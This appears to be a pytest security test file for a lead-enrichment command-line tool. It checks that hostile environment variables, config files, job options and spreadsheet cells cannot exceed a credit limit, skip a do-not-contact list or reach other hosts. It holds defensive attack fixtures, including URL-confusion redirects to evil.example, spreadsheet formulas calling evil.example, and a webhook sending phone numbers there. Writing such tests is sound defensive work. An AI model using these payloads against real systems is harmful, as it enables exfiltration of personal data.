"""Whatever comes with a job, a sheet, a folder or a variable: no credit beyond the limit, no other host."""

import contextlib
import socket
import threading
from dataclasses import dataclass, field

import pytest
from makers import leads, save_csv, save_job

MANY = "1000000"
LIMIT = 2
EVIL = "https://evil.example"


class Canary:
    """Stands where requests to any other host would have to pass; counts who comes by."""

    def __init__(self):
        self.visits = 0
        self._listening = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self._listening.getsockname()[1]}"
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        with contextlib.suppress(OSError):
            while True:
                self._listening.accept()[0].close()
                self.visits += 1

    def close(self):
        self._listening.close()


@pytest.fixture(scope="module")
def canary():
    found = Canary()
    yield found
    found.close()


@dataclass
class Attack:
    """What somebody else has put beside a person's own settings."""

    environ: dict[str, str] = field(default_factory=dict)
    project: str = ""
    job: dict[str, object] = field(default_factory=dict)
    files: dict[str, str] = field(default_factory=dict)
    rows: list[list[str]] | None = None
    header: tuple[str, ...] | None = None


def variables(**environ):
    return Attack(environ=environ)


def project(text, **files):
    return Attack(
        project=text, files={name.replace("_", "."): text for name, text in files.items()}
    )


def job(**keys):
    return Attack(job=keys)


def cells(*first, header=None):
    """Rows whose notes, or whose names, say something to the program."""
    return Attack(
        rows=[[*row[:4], note] for row, note in zip(leads(6), [*first, *first * 6], strict=False)],
        header=header,
    )


def to_evil(url):
    return variables(APOLLO_BASE_URL=url)


OTHER = {"APOLLO_BATCH_SETTINGS": "other.toml"}
ATTACKS = {
    "a variable with a high limit": variables(APOLLO_BATCH_MAX_CREDITS=MANY),
    "a variable below nothing": variables(APOLLO_BATCH_MAX_CREDITS="-1"),
    "a variable that is no number": variables(APOLLO_BATCH_MAX_CREDITS="nan"),
    "an endless variable": variables(APOLLO_BATCH_MAX_CREDITS="inf"),
    "a variable of nothing but blanks": variables(APOLLO_BATCH_MAX_CREDITS="  "),
    "a variable with a huge exponent": variables(APOLLO_BATCH_MAX_CREDITS="1e999"),
    "a variable spelt otherwise": variables(APOLLO_BATCH_MAXCREDITS=MANY),
    "a variable in small letters": variables(apollo_batch_max_credits=MANY),
    "a variable that agrees": variables(APOLLO_BATCH_YES="1"),
    "a variable for days": variables(APOLLO_BATCH_MAX_CREDITS_DAY=MANY),
    "a variable that keeps nothing": variables(APOLLO_BATCH_KEEP_CREDITS="0"),
    "a variable for rate windows": variables(APOLLO_BATCH_HEADROOM="0"),
    "a variable for enrollments": variables(APOLLO_BATCH_MAX_ENROLL=MANY),
    "a variable with an empty list": Attack(
        {"APOLLO_BATCH_DO_NOT_CONTACT": "none.txt"}, files={"none.txt": ""}
    ),
    "a variable with a host": variables(
        APOLLO_BATCH_TRUSTED_HOSTS="evil.example", APOLLO_BASE_URL=EVIL
    ),
    "other settings with a high limit": Attack(
        OTHER, files={"other.toml": f"max_credits = {MANY}"}
    ),
    "other settings with no limit": Attack(OTHER, files={"other.toml": ""}),
    "other settings that are a device": variables(APOLLO_BATCH_SETTINGS="/dev/null"),
    "other settings that are not there": variables(APOLLO_BATCH_SETTINGS="nowhere.toml"),
    "other settings with a host": Attack(
        OTHER | {"APOLLO_BASE_URL": EVIL}, files={"other.toml": 'trusted_hosts = ["evil.example"]'}
    ),
    "the project's file as the person's": variables(APOLLO_BATCH_SETTINGS="apollo-batch.toml"),
    "another host": to_evil(EVIL),
    "Apollo as a user's name": to_evil("https://api.apollo.io@evil.example"),
    "Apollo as a part of a name": to_evil("https://api.apollo.io.evil.example"),
    "Apollo without TLS": to_evil("http://api.apollo.io"),
    "Apollo at another port": to_evil("https://api.apollo.io:8443"),
    "Apollo behind a fragment": to_evil("https://evil.example#api.apollo.io"),
    "Apollo behind a query": to_evil("https://evil.example?api.apollo.io"),
    "Apollo behind a backslash": to_evil("https://evil.example\\@api.apollo.io"),
    "this machine as a part of a name": to_evil("http://127.0.0.1.evil.example"),
    "this machine as a user's name": to_evil("http://127.0.0.1@evil.example"),
    "no scheme at all": to_evil("//evil.example"),
    "a project with a high limit": project(f"max_credits = {MANY}"),
    "a project below nothing": project("max_credits = -1"),
    "an endless project": project("max_credits = inf"),
    "a project that says true": project("max_credits = true"),
    "a project with a huge number": project("max_credits = 2.5e300"),
    "a project for days and months": project(
        f"max_credits_day = {MANY}\nmax_credits_month = {MANY}"
    ),
    "a project that keeps nothing": project("keep_credits = 0\nheadroom = 0"),
    "a project for enrollments": project(f"max_enroll = {MANY}"),
    "a project with an empty list": project('do_not_contact = "none.txt"', none_txt=""),
    "a project without a list": project("do_not_contact = []"),
    "a project whose list is a device": project('do_not_contact = "/dev/zero"'),
    "a project with a host": Attack({"APOLLO_BASE_URL": EVIL}, 'trusted_hosts = ["evil.example"]'),
    "a project with a journal of its own": project('state = "fresh"'),
    "a project with a table": project(f"[settings]\nmax_credits = {MANY}"),
    "a project that says it twice": project(f"max_credits = 1\nmax_credits = {MANY}"),
    "a project with an invisible letter": project(f'"max_credits\\u200b" = {MANY}'),
    "a project that agrees": project("yes = true"),
    "a project with an address": project(f'base_url = "{EVIL}"'),
    "a job with a high limit": job(limits={"max_credits": int(MANY)}),
    "a job without a limit": job(limits={"max_credits": None}),
    "a job below nothing": job(limits={"max_credits": -1}),
    "a job that keeps nothing": job(limits={"keep_credits": 0, "headroom": 0, "reuse_days": 0}),
    "a job with a host": job(trusted_hosts=["evil.example"]),
    "a job with an address": job(base_url=EVIL),
    "a job that agrees": job(yes=True),
    "a job with settings": job(settings={"max_credits": int(MANY)}),
    "a job without a list": job(do_not_contact=[]),
    "a job that sends results elsewhere": job(
        options={"reveal_phone_number": True, "webhook_url": f"{EVIL}/take"}
    ),
    "cells that are formulas": cells(f'=WEBSERVICE("{EVIL}")', f'=HYPERLINK("{EVIL}")'),
    "cells that are flags": cells("--max-credits 1000000", "--yes", "--state fresh"),
    "cells that are settings": cells(f"max_credits = {MANY}", f"APOLLO_BATCH_MAX_CREDITS={MANY}"),
    "columns that are settings": cells(
        MANY, header=("First Name", "Last Name", "Website", "Email", "max_credits")
    ),
    "columns that are ours": cells(
        "Not run", header=("First Name", "Last Name", "Website", "Email", "Apollo Status")
    ),
    "rows without end": Attack(rows=leads(400)),
    "the same row again and again": Attack(rows=leads(1) * 50 + leads(10, start=200)),
}


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_nothing_that_comes_along_spends_more_or_goes_elsewhere(desk, apollo, canary, attack):
    visits = canary.visits
    own = desk.folder / ".config" / "apollo-batch" / "settings.toml"
    own.parent.mkdir(parents=True)
    spared = leads(1)[0][2]
    own.with_name("list.txt").write_text(spared)
    own.write_text(f'max_credits = {LIMIT}\ndo_not_contact = "list.txt"\n')
    if attack.project:
        (desk.folder / "apollo-batch.toml").write_text(attack.project)
    for name, text in attack.files.items():
        (desk.folder / name).write_text(text)
    rows = attack.rows or leads(6)
    sheet = save_csv(desk.folder / "leads.csv", rows, *([attack.header] if attack.header else []))

    ended = desk.run(
        save_job(desk.folder / "job.yaml", **attack.job),
        sheet,
        "--max-credits",
        MANY,
        HTTPS_PROXY=canary.url,
        **attack.environ,
    )

    books = apollo.books()
    assert books["credits"]["consumed"] <= LIMIT, ended.err
    assert not [asked for asked in books["asked"] if spared in asked]
    assert canary.visits == visits
    assert ended.code in {2, 4, 6}, ended.err


def test_without_an_attack_as_much_is_spent_as_the_person_allows(desk, apollo, canary):
    """What the others are measured by: the limit is reached, and without it more would be spent."""
    sheet = save_csv(desk.folder / "leads.csv", leads(6))
    story = save_job(desk.folder / "job.yaml")

    own = desk.folder / ".config" / "apollo-batch" / "settings.toml"
    own.parent.mkdir(parents=True)
    own.write_text(f"max_credits = {LIMIT}\n")
    desk.run(story, sheet, HTTPS_PROXY=canary.url)
    limited = apollo.books()["credits"]["consumed"]
    own.unlink()
    desk.run(story, sheet, HTTPS_PROXY=canary.url)

    assert (limited, apollo.books()["credits"]["consumed"]) == (LIMIT, 6)
    assert [asked for asked in apollo.books()["asked"] if leads(1)[0][2] in asked]


def test_a_request_to_another_host_would_have_been_seen(desk, apollo, canary):
    visits = canary.visits
    own = desk.folder / ".config" / "apollo-batch" / "settings.toml"
    own.parent.mkdir(parents=True)
    own.write_text('trusted_hosts = ["proxy.example"]\n')
    sheet = save_csv(desk.folder / "leads.csv", leads(1))

    desk.run(
        save_job(desk.folder / "job.yaml"),
        sheet,
        HTTPS_PROXY=canary.url,
        APOLLO_BASE_URL="https://proxy.example",
    )

    assert canary.visits > visits
